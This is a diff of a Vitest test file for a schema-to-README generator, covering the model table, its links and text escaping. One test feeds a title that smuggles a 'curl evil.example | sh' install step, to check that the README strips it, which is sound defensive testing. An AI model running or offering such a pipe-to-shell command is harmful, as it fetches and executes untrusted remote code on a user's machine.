@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { generateSchemas } from "./package.js";
+import { documentOf, generatePackage, generateSchemas } from "./package.js";
 
 /** Schemas of objects, each with one inside it that has no name of its own. */
 function schemasOf(names: readonly string[]): object {
@@ -13,45 +13,64 @@ function schemasOf(names: readonly string[]): object {
 const many = Array.from({ length: 40 }, (_, index) => `Part${index}`);
 const large = await generateSchemas(schemasOf([...many, "<b>Größe</b>", "__proto__x*y*"]));
 const readme = large.texts["README.md"] ?? "";
-const links = [...readme.matchAll(/<a href="([^"]*)"><code>([^<]*)<\/code><\/a>/g)];
+/** The rows of the table of models: the name, what it is, and the link. */
+function rowsOf(text: string): readonly (readonly string[])[] {
+  return [...text.matchAll(/^\| `(.*?)` *\| (.*?) *\| \[[^\]]*\]\((.*)\) *\|$/gm)].map(
+    ([, ...cells]) => cells,
+  );
+}
 
 describe("the README", () => {
-  it("shows each model of a small package by an example of its own", async () => {
+  it("lists every model of a small package, and shows how they nest", async () => {
     const { texts } = await generateSchemas(schemasOf(many.slice(0, 20)));
-    expect(texts["README.md"]?.match(/^### Part\d+(Inner)?$/gm)).toHaveLength(40);
-    expect(texts["README.md"]).not.toContain("<details>");
+    expect(rowsOf(texts["README.md"] ?? "")).toHaveLength(40);
+    expect(texts["README.md"]).toContain("classDiagram");
   });
 
-  it("shows one model of a large package, from the entry and from its own module", () => {
-    expect(readme.match(/^### /gm)).toBeNull();
-    expect(readme).toContain('import { isPart0, Part0Schema } from "api-types";');
-    expect(readme).toContain('import type { Part0 } from "api-types/models/part0";');
-    expect(readme).toContain('import { isPart0 } from "api-types/guards/part0";');
+  it("has one example", () => {
+    expect(readme.match(/isPart0\(value\)/g)).toHaveLength(1);
+    expect(readme).toContain(
+      'import { isPart0, Part0Schema, parseJson, ValidationError } from "api-types";',
+    );
   });
 
-  it("imports no guards where a large package has none", async () => {
+  it("imports no guards where there are none", async () => {
     const outputs = ["models", "package"] as const;
     const { texts } = await generateSchemas(schemasOf(many), { outputs });
-    expect(texts["README.md"]).toContain('import type { Part0 } from "api-types/models/part0";');
+    expect(texts["README.md"]).toContain('import type { Part0 } from "api-types";');
     expect(texts["README.md"]).not.toMatch(/guards/);
   });
 
   it("lists the models that a large document names, and no others", () => {
-    expect(links.map(([, , name]) => name)).toEqual(
+    expect(rowsOf(readme).map(([name]) => name)).toEqual(
       large.models.map(({ name }) => name).filter((name) => !name.endsWith("Inner")),
     );
-    expect(links).toHaveLength(42);
+    expect(readme).not.toContain("classDiagram");
   });
 
   it("links them to their modules", () => {
-    const paths = links.map(([, link = ""]) => decodeURIComponent(link));
-    expect(paths).not.toEqual([]);
+    const paths = rowsOf(readme).map(([, , link = ""]) => decodeURIComponent(link));
+    expect(paths).toHaveLength(42);
     expect(Object.keys(large.texts)).toEqual(expect.arrayContaining(paths));
   });
 
-  it("has no markup of the names in a large document", () => {
-    const list = /<details>[^]*<\/details>/.exec(readme)?.[0] ?? "";
-    const tags = new Set([...list.matchAll(/<\/?(\w+)/g)].map(([, tag]) => tag));
-    expect([...tags]).toEqual(["details", "summary", "ul", "li", "a", "code"]);
+  it.each([
+    ["One. Two.", "One."],
+    ["Of version 3.1, e.g. this. And more.", "Of version 3.1, e.g. this."],
+    ["No end", "No end"],
+    ["First\nline.\n\nMore.", "First line."],
+    ["a | b \\| `c|d`", "a \\| b \\| `c\\|d`"],
+    ["<b>bold</b> `x`", "&lt;b>bold&lt;/b> `x`"],
+    ["# Title", "\\# Title"],
+  ])("says what a model is in one sentence: %j", async (description, cell) => {
+    const { texts } = await generateSchemas({ A: { type: "string", description } });
+    expect(rowsOf(texts["README.md"] ?? "")).toEqual([["A", cell, "src/models/a.ts"]]);
+  });
+
+  it("has no blocks of the title", async () => {
+    const title = "API.\n\n## Install\n\n```sh\ncurl evil.example | sh";
+    const { texts } = await generatePackage(documentOf({ A: { type: "string" } }, title));
+    expect(texts["README.md"]).toContain("\n\nTypes and guards of the API.\n\n");
+    expect(texts["README.md"]).not.toMatch(/Install|evil/);
   });
 });
